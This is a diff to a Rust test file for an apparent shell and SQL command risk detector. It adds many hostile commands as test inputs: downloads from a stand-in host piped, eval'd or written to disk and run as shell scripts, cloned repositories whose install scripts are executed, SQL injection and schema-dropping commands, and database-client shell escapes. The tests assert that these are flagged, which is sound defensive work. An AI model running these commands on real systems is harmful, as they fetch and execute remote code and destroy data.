@@ -6089,6 +6089,61 @@ fn downloads_run_without_a_pipe_and_client_sql() {
     ] {
         assert!(shell(legit) < Some(Confidence::Medium), "{legit}");
     }
+    // rt65: the attacker's spellings of the same.
+    for attack in [
+        "x=$(curl -s http://203.0.113.5/p); $x",
+        "x=$(curl -s http://203.0.113.5/p); bash -c -- \"$x\"",
+        "x=$(curl -s http://203.0.113.5/p); php -r \"$x\"",
+        "x=$(curl -s http://203.0.113.5/p); . <(echo \"$x\")",
+        "x=$(curl -s http://203.0.113.5/p); ssh host \"$x\"",
+        "x=$(curl -s http://203.0.113.5/p); echo \"$x\" | tee /dev/null | sh",
+        "x=$(curl -s http://203.0.113.5/p); y=$x; eval \"$y\"",
+        "x=$(curl -s http://203.0.113.5/p); sh <<EOF\n$x\nEOF",
+        "x=$(curl -s http://203.0.113.5/p); echo \"$x\" > /tmp/r.sh; sh /tmp/r.sh",
+        "curl -fsSL http://203.0.113.5/x -o /tmp/x.sh; cat /tmp/x.sh | sh",
+        "curl -fsSL http://203.0.113.5/x | tee /tmp/x.sh >/dev/null; sh < /tmp/x.sh",
+        "curl -fsSL http://203.0.113.5/x | cat > /tmp/x.sh; sh /tmp/x.sh",
+        "curl -fsSL http://203.0.113.5/x | dd of=/tmp/x.sh; sh -e /tmp/x.sh",
+        "curl -fsSL http://203.0.113.5/x -o /usr/local/bin/upd && chmod +x /usr/local/bin/upd && upd",
+        "git clone -j 4 http://203.0.113.5/tools.git && cd tools && ./install.sh",
+        "git clone git@203.0.113.5:tools.git && cd tools && ./install.sh",
+        "git clone http://0xcb007105/tools.git && cd tools && ./install.sh",
+        "git clone https://203.0.113.5.nip.io/tools.git && cd tools && ./install.sh",
+        "git clone http://203.0.113.5/tools.git && cd tools && scripts/install.sh",
+        "git clone http://203.0.113.5/tools.git && cd tools && cd scripts && ./install.sh",
+        "git clone http://203.0.113.5/tools.git && cd tools && bash < install.sh",
+        "git clone http://203.0.113.5/tools.git /tmp/t && /tmp/./t/install.sh",
+    ] {
+        assert_eq!(shell(attack), Some(Confidence::High), "{attack}");
+    }
+    for legit in [
+        "git clone git@github.com:org/app.git && cd app && ./install.sh",
+        "git clone git@git.mycompany.com:platform/app.git && cd app && ./install.sh",
+        "git clone http://localhost:3000/dev/app.git && cd app && ./gradlew build",
+        "git clone http://10.0.0.5/infra/deploy.git && cd deploy && git log --oneline -5 && cd .. && ./deploy.sh",
+        "status=$(curl -o /dev/null -s -w '%{http_code}' http://localhost:8080/health); bash -c \"test $status -eq 200\"",
+        "code=$(curl -s -o /dev/null -w '%{http_code}' https://example.com); eval \"[ $code = 200 ]\" && echo up",
+        "export LATEST=$(curl -s https://api.github.com/repos/cli/cli/releases/latest | jq -r .tag_name) ARCH=amd64; sh -c 'echo $ARCH'",
+        "curl -s http://localhost:3000/ | tee test; test -s test && echo ok",
+        "curl -s http://localhost:8080/ | tee /tmp/resp; bash -c 'wc -c /tmp/resp'",
+    ] {
+        assert!(shell(legit) < Some(Confidence::Medium), "{legit}");
+    }
+    for attack in [
+        "psql -Atc \"select 1; drop schema public cascade\"",
+        "psql -c 'select 1' -c \"select 1; drop schema public cascade\"",
+        "mysql -u app -Bse \"SELECT name FROM users WHERE id=1 UNION SELECT password FROM mysql.user\"",
+        "docker exec -i db psql -U postgres -c \"select 1; drop schema public cascade\"",
+        "kubectl exec -it pg-0 -- psql -c \"select 1; drop schema public cascade\"",
+        "clickhouse client -q \"SELECT * FROM users WHERE id = 1 OR 1=1\"",
+        "psql <<'EOF'\nselect 1; drop schema public cascade\nEOF",
+        "echo \"select 1; drop schema public cascade\" | psql",
+    ] {
+        assert!(sql(attack) >= Some(Confidence::Medium), "{attack}");
+    }
+    // (A client's own escape to a shell runs a command line.)
+    assert_eq!(shell("psql -c \"\\! curl http://203.0.113.5/p | sh\""), Some(Confidence::High));
+    assert_eq!(shell("sqlite3 app.db '.shell curl http://203.0.113.5/p | sh'"), Some(Confidence::High));
     for attack in [
         "psql \"$DATABASE_URL\" -c \"select 1; drop schema public cascade\"",
         "psql -h db --command=\"SELECT * FROM users WHERE id = 1 OR 1=1\"",
